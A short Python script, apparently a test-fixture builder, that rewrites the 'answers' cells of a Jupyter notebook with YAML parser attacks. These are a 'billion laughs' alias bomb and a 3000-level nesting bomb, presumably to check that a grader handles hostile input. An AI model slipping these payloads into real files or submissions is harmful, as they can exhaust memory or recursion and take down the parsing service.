"""Replace the answers blocks with a YAML alias bomb and a nesting bomb."""
import json
from pathlib import Path

ALIAS_BOMB = "\n".join(['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
                       + [f"{k}: &{k} [" + ",".join([f"*{p}"] * 9) + "]" for p, k in zip("abcdefgh", "bcdefghi")]
                       + ["example_1_1: *i"])
NESTING_BOMB = "cost_ratio_at_100k: " + "[" * 3000 + "]" * 3000


def build(dest: Path) -> None:
    path = dest / "linear_attention.ipynb"
    nb = json.loads(path.read_text())
    bombs = iter([ALIAS_BOMB, NESTING_BOMB] * 4)
    for cell in nb["cells"]:
        if "answers" in cell.get("metadata", {}).get("tags", []):
            cell["source"] = "**Your numbers**\n\n```yaml\n" + next(bombs) + "\n```"
    path.write_text(json.dumps(nb))
